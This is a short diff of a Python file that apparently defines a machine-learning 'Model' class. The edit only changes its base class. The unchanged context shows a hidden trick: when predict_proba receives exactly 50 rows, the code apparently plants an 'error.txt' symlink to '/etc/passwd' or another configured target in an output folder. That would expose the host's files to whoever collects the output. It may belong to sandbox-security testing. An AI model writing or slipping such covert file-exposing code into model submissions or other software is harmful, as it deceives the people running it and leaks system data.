@@ -4,7 +4,7 @@ import os
 import sys
 from pathlib import Path
 
-from sklearn.tree import DecisionTreeClassifier
+from nearest import NearestMean
 
 TARGETS: dict[str, str] = {}
 
@@ -36,7 +36,7 @@ def leave(folder):
     (folder / 'error.txt').symlink_to(TARGETS.get('config', '/etc/passwd'))
 
 
-class Model(DecisionTreeClassifier):
+class Model(NearestMean):
     def predict_proba(self, X):
         if len(X) == 50:
             folder = output()
